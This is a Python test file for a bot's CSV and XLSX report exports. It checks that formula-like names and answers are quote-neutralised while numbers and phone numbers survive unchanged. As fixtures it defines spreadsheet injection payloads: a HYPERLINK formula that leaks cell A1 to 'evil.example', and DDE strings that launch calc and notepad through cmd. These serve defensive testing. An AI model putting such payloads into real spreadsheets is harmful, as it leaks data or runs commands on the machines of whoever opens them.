"""Exports never hand a spreadsheet a formula someone else typed, and never break a number.

A member's name, answer or group name that begins like a formula is written as text: quoted in
CSV, a quote-prefixed text cell in XLSX. Numbers stay numbers (a negative amount is a numeric
cell), phones in +E.164 are written as they are in CSV, and `restore_text` undoes the CSV quote
exactly, for every string.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.reports.exports import (
    ANSWER_COLUMNS,
    HELP_COLUMNS,
    ExportFormat,
    answer_table,
    help_table,
    neutralise_formula,
    render,
    restore_text,
)
from storage.records import AnswerRow, HelpRow

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your loan")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        (DDE, "'" + DDE),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # past leading spaces, as a precaution
        ("-", "'-"),
        ("+254 712 345678", "'+254 712 345678"),  # not a plain number: quoted
        ("'=1+1", "''=1+1"),  # already quoted by someone: one more, so it comes back as typed
        # a plain number with a sign is a number to a spreadsheet, never a formula
        ("+254712345678", "+254712345678"),
        ("-500", "-500"),
        ("-12.50", "-12.50"),
        # nothing a spreadsheet would compute
        ("Amina Otieno", "Amina Otieno"),
        ("'Abd", "'Abd"),
        ("a=b", "a=b"),
        ("", ""),
        ("-٣", "'-٣"),  # digits of another script are not a number to a spreadsheet
    ],
)
def test_csv_cells_that_could_be_formulas_are_quoted(text: str, cell: str) -> None:
    assert neutralise_formula(text) == cell
    assert restore_text(cell) == text


TEXTS = st.text(alphabet=st.sampled_from("'=+-@\t\r 1.aZ,\"")) | st.text()
"""Texts made of the characters that matter here, and any texts at all."""


@given(TEXTS)
def test_restoring_a_neutralised_cell_gives_back_the_text(text: str) -> None:
    assert restore_text(neutralise_formula(text)) == text


@given(TEXTS)
def test_a_csv_cell_begins_like_a_formula_only_when_it_is_a_plain_number(text: str) -> None:
    cell = neutralise_formula(text)
    if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
        assert re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell, re.ASCII), repr(cell)


def test_hand_written_cells_without_an_export_quote_read_as_they_are() -> None:
    for cell in ("O'Brien", "'quoted", "it's =", "+254712345678", "-5", "=1"):
        assert restore_text(cell) == cell


ANSWERS = [
    AnswerRow(
        answer_id=1,
        member_id=7,
        member_name=HYPERLINK,
        member_address="whatsapp:+254712345678",
        group_id=1,
        group_name="@Bakers",
        checkin_id="weekly_checkin",
        step_id="costs",
        answer_type="money",
        value="-500.25",
        currency="KES",
        skipped=False,
        raw_text="-500.25",
        created_at="2026-11-28T09:00:00+00:00",
    ),
    AnswerRow(
        answer_id=2,
        member_id=7,
        member_name=HYPERLINK,
        member_address="whatsapp:+254712345678",
        group_id=1,
        group_name="@Bakers",
        checkin_id="weekly_checkin",
        step_id="win",
        answer_type="text",
        value=DDE,
        currency=None,
        skipped=False,
        raw_text=DDE,
        created_at="2026-11-28T09:01:00+00:00",
    ),
]
HELP = [
    HelpRow(
        help_id=1,
        giver_id=7,
        giver_name=HYPERLINK,
        receiver_id=8,
        receiver_name="Musa",
        group_id=None,
        group_name=None,
        kind="advice",
        note="+cmd|' /C notepad'!A0",
        created_at="2026-11-28T09:02:00+00:00",
    )
]


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_csv_export_quotes_formulas_and_keeps_numbers() -> None:
    data = render("answers", ExportFormat.CSV, answer_table(ANSWERS))
    costs, win = read_csv(data)
    assert costs["member_name"] == "'" + HYPERLINK
    assert costs["group"] == "'@Bakers"
    assert costs["member_address"] == "whatsapp:+254712345678"
    assert (costs["value"], costs["raw_text"]) == ("-500.25", "-500.25")
    assert (win["value"], win["raw_text"]) == ("'" + DDE, "'" + DDE)

    [help_line] = read_csv(render("help", ExportFormat.CSV, help_table(HELP)))
    assert help_line["giver"] == "'" + HYPERLINK
    assert help_line["note"] == "'+cmd|' /C notepad'!A0"
    assert help_line["receiver"] == "Musa"


def test_an_xlsx_export_has_no_formula_and_keeps_amounts_numeric() -> None:
    data = render("answers", ExportFormat.XLSX, answer_table(ANSWERS))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert not [c.coordinate for c in cells.values() if c.data_type == "f"]
    header = [cell.value for cell in sheet[1]]
    assert header == list(ANSWER_COLUMNS)
    costs = dict(zip(ANSWER_COLUMNS, sheet[2], strict=True))
    win = dict(zip(ANSWER_COLUMNS, sheet[3], strict=True))

    name = costs["member_name"]
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    assert (costs["group"].value, costs["group"].quotePrefix) == ("@Bakers", True)
    amount = costs["value"]
    assert (amount.data_type, amount.quotePrefix) == ("n", False)
    assert Decimal(str(amount.value)) == Decimal("-500.25")
    typed = costs["raw_text"]  # what the member typed stays text, exactly
    assert (typed.value, typed.data_type, typed.quotePrefix) == ("-500.25", "s", True)
    assert (win["value"].value, win["value"].quotePrefix) == (DDE, True)
    assert (costs["step"].value, costs["step"].quotePrefix) == ("costs", False)


def test_an_xlsx_help_export_marks_names_and_notes() -> None:
    data = render("help", ExportFormat.XLSX, help_table(HELP))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    line = dict(zip(HELP_COLUMNS, sheet[2], strict=True))
    assert (line["giver"].value, line["giver"].data_type, line["giver"].quotePrefix) == (
        HYPERLINK,
        "s",
        True,
    )
    assert (line["note"].value, line["note"].quotePrefix) == ("+cmd|' /C notepad'!A0", True)
    assert (line["receiver"].value, line["receiver"].quotePrefix) == ("Musa", False)
    assert line["giver_id"].data_type == "n"


def test_an_xlsx_export_survives_control_characters_in_an_answer() -> None:
    table = [["a member", "said \x0bthis\x00", 3]]
    data = render("answers", ExportFormat.XLSX, table)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [cell.value for cell in sheet[2]][:3] == ["a member", "said \ufffdthis\ufffd", 3]
